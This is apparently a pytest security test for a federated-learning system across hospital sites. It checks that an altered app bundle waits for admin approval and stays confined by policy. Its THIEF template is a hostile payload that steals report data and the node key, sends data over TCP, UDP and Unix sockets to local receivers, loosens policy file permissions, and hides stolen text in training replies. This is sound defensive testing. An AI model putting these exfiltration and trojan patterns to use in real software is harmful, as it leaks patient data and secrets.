"""Which code runs at a site: the server's only if the site's admin says so, and then still behind the policy.

The changed bundle reads the reports: when it is imported, and in training. It notes each in a folder, so that
the test sees what ran, and puts them into its replies.
"""

from __future__ import annotations

import contextlib
import json
import re
import shutil
import socket
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from harness import Federation, Hospitals
from processes import wait_until

from client.egress.egress import REFUSED_KIND

pytestmark = pytest.mark.deploy

Make = Callable[..., Federation]

THIEF = """

import socket as _socket
from pathlib import Path as _Path


def _loot(name, take):
    try:
        _Path({loot!r}).mkdir(exist_ok=True)
        _Path({loot!r}, name).write_text(take(), "utf-8")
    except OSError:
        pass


def _call():
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as peer:
        peer.sendall(b"stolen")
    return "called"


def _send():
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as sender:
        sender.sendto(b"stolen", ("127.0.0.1", {port}))
    return "sent"


def _tell():
    with _socket.socket(_socket.AF_UNIX) as peer:
        peer.connect({local!r})
        peer.sendall(b"stolen")
    return "told"


def _open():
    _Path({node!r}, "policy.yaml").chmod(0o777)
    return "opened"


_loot("imported", lambda: _Path({reports!r}).read_text("utf-8"))
_loot("key", lambda: _Path({node!r}, "node.key").read_text("utf-8"))
_loot("called", _call)
_loot("sent", _send)
_loot("told", _tell)
_loot("opened", _open)
_honest_train = _train


def _stealing_train(site, *rest):
    text = (site.data / "metadata_unilateral" / "reports.csv").read_text("utf-8")
    _loot("trained", lambda: text)
    reply = _honest_train(site, *rest)
    {theft}
    return reply


_train = _stealing_train
"""
EXTRA_RECORD = 'reply["loot"] = ConfigRecord({"text": text})'
EXTRA_NUMBER = 'reply["metrics"]["loot"] = [float(sign) for sign in text.encode()[:2000]]'
EXTRA_TENSOR = (
    'import numpy as _np\n    reply["arrays"]["fusion.loot"] = '
    "Array(_np.frombuffer(text.encode()[:2000], dtype=_np.uint8).astype(_np.float32))"
)


def changed_app(checkout: Path, folder: Path, **values: object) -> Path:
    """A copy of the project in which the site's app steals; its `train` handler is the same function."""
    ignore = shutil.ignore_patterns(".git", ".venv", "runs", "tests", "__pycache__", "*.egg-info", "docs")
    shutil.copytree(checkout, folder, ignore=ignore)
    app = folder / "client" / "app.py"
    code = app.read_text("utf-8")
    assert " _train)" in code, "the handler looks the function up when it is called"
    app.write_text(code + THIEF.format(**values), encoding="utf-8")
    return folder


@dataclass(frozen=True)
class Receivers:
    """Who waits for what is stolen, by TCP and UDP at one port, and by a local socket."""

    tcp: socket.socket
    udp: socket.socket
    local: socket.socket

    def came(self) -> list[str]:
        """By which ways something came."""
        found: list[str] = []
        for name in ("tcp", "udp", "local"):
            bound: socket.socket = getattr(self, name)
            with contextlib.suppress(BlockingIOError):
                bound.recv(10) if name == "udp" else bound.accept()[0].close()
                found.append(name)
        return found


@pytest.fixture
def receivers() -> Iterator[Receivers]:
    """Receivers of all three kinds."""
    with (
        tempfile.TemporaryDirectory() as folder,
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as local,
    ):
        udp.bind(tcp.getsockname())
        local.bind(f"{folder}/local")
        local.listen()
        for bound in (tcp, udp, local):
            bound.setblocking(False)
        yield Receivers(tcp, udp, local)


@pytest.mark.parametrize(
    ("theft", "rule"),
    [(EXTRA_RECORD, "records"), (EXTRA_NUMBER, "numbers"), (EXTRA_TENSOR, "tensors")],
    ids=["record", "number", "tensor"],
)
def test_a_changed_bundle_waits_unread_and_once_approved_sends_nothing_more(
    make_federation: Make,
    hospitals: Hospitals,
    checkout: Path,
    receivers: Receivers,
    tmp_path: Path,
    theft: str,
    rule: str,
) -> None:
    federation = make_federation()
    federation.start_server()
    for site in ("A", "B"):
        federation.join(site)
        federation.start_site(site)
    federation.wait_online("A", "B")
    loot = federation.private("A") / "approved"  # where the site's app may write
    federation.app = changed_app(
        checkout,
        tmp_path / "copy",
        loot=str(loot),
        reports=str(hospitals.sites["A"] / "metadata_unilateral" / "reports.csv"),
        node=str(federation.node("A")),
        port=receivers.tcp.getsockname()[1],
        local=receivers.local.getsockname(),
        theft=theft,
    )

    federation.submit("waits", sites=2)
    wait_until(lambda: federation.failure("waits"), 400, "the study fails")
    failure = str(federation.failure("waits"))
    assert "0 sites can take part" in failure, failure
    assert "approve" in failure, failure
    assert not loot.exists(), "code that nobody approved was imported"
    status = federation.try_("climb-site", "status", "--node", federation.node("A")).stdout
    (digest,) = set(re.findall(r"approve ([0-9a-f]{12,64})", status + federation.sites["A"].said()))

    shown = federation.try_("climb-site", "approve", digest, "--diff", "--node", federation.node("A")).stdout
    assert "client/app.py" in shown
    assert not loot.exists(), "showing what differs imported it"
    for site in ("A", "B"):
        federation.ask("climb-site", "approve", digest, "--node", federation.node(site), wanted=0)

    federation.submit("approved", sites=2)
    wait_until(lambda: federation.failure("approved"), 600, "the study fails")
    wanted = ("imported", "key", "called", "sent", "told", "opened", "trained")
    taken = {name for name in wanted if (loot / name).exists()}
    assert {"imported", "trained"} <= taken, "the approved code should run"
    said = federation.sites["A"].said()
    if "no Landlock" not in said and "no filter of system calls" not in said:
        assert taken == {"imported", "trained"}, "the fence should keep the app from the rest"
        assert receivers.came() == []
    stolen = (loot / "trained").read_text("utf-8").splitlines()[1].split(",", 1)[1]
    failure = str(federation.failure("approved"))
    assert "0 of 2 sites sent a sound reply" in failure, failure
    assert "policy" in failure, failure
    kept = b"".join(path.read_bytes() for path in federation.home.rglob("*") if path.is_file())
    kept += b"".join(path.read_bytes() for path in federation.out("approved").rglob("*") if path.is_file())
    assert b"shared" in kept
    assert stolen.encode() not in kept
    log = federation.ask("climb-site", "audit", "log", "--json", "--node", federation.node("A"))
    entries = [json.loads(line) for line in log.splitlines() if line.startswith("{")]
    trained = [entry for entry in entries if entry["fields"].get("message") == "train"]
    assert trained, log
    for entry in trained:
        assert (entry["kind"], entry["fields"]["study"]) == (REFUSED_KIND, "approved")
        assert entry["fields"]["rule"] == rule
